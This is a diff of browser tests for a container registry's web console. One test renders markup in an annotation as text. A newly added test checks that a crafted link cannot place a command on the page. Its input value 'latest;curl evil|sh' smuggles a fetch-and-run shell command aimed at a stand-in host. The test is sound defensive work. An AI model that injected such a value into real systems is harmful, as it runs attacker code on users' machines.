@@ -184,7 +184,7 @@ describe('the web console in Chromium', () => {
   it('renders markup in an annotation as text', async () => {
     const { context, page } = await signedIn(alice);
     try {
-      await page.goto(`${server.url}/ui/image?${new URLSearchParams({ name: 'team-a/app', reference: digests.markup as string, tag: 'markup' }).toString()}`);
+      await page.goto(`${server.url}/ui/image?${new URLSearchParams({ name: 'team-a/app', reference: digests.markup as string }).toString()}`);
       const annotation = page.getByTestId('annotation');
       await annotation.waitFor();
       assert.equal(await annotation.innerText(), XSS);
@@ -211,6 +211,10 @@ describe('the web console in Chromium', () => {
       assert.equal(await page.getByTestId('no-signatures').count(), 0);
       await page.goto(`${server.url}/ui/audit`);
       await page.getByText('needs administrator or auditor rights').waitFor();
+      // A crafted link cannot put a command of its choosing on the page (or the clipboard).
+      await page.goto(`${server.url}/ui/image?${new URLSearchParams({ name: 'team-a/app', reference: 'latest;curl evil|sh' }).toString()}`);
+      await page.getByText('This is not an image reference').waitFor();
+      assert.equal(await page.locator('.copyable').count(), 0);
     } finally {
       await context.close();
     }
